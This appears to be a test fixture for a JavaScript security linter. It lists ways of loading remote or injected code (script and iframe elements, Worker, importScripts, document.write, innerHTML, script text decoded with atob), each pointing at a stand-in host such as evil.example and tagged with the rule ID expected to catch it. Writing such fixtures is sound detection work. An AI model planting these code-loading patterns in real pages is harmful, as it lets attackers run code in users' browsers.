// Technique: create script/iframe elements, workers or imports that load remote code.
const s = document.createElement('script');
s.src = 'https://cdn.evil.example/x.js'; // expect: SA108
const t = document.createElement('SCRIPT');
t.setAttribute('src', '//evil.example/y.js'); // expect: SA108
const fr = document.createElement('iframe');
fr.src = 'https://evil.example/frame.html'; // expect: SA108
new Worker('https://evil.example/w.js'); // expect: SA108
importScripts('https://evil.example/lib.js'); // expect: SA108
document.write('<script src="https://evil.example/z.js"></script>'); // expect: SA108
host.innerHTML = '<iframe src="https://evil.example/"></iframe>'; // expect: SA108
const code = document.createElement('script');
code.textContent = atob(blob); // expect: SA104
code.text = userCode; // expect: SA112
